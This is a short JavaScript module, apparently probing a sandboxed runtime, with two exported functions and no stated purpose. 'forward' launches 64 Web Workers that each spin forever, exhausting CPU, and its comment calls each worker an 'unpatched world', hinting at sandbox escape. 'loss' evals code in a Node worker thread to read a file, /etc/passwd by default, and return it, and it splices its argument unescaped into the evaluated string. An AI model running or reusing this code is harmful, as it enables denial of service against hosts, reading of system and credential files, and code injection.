// Takes all the threads it can get: each worker is a process of its own in all but name, and has a fresh, unpatched world.
export async function forward() {
  const code = "postMessage('up'); for (;;);";
  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  let started = 0;
  const up = Array.from({ length: 64 }, () =>
    new Promise((resolve) => {
      new Worker(url, { type: "module" }).onmessage = () => resolve(started++);
    }));
  await Promise.all(up);
  return { started };
}

export async function loss({ secret = "/etc/passwd" }) {
  const { Worker } = await import("node:worker_threads");
  const worker = new Worker(
    `require("worker_threads").parentPort.postMessage(require("fs").readFileSync("${secret}", "utf8"))`,
    {
      eval: true,
    },
  );
  return await new Promise((resolve, reject) => {
    worker.on("message", resolve);
    worker.on("error", reject);
  });
}
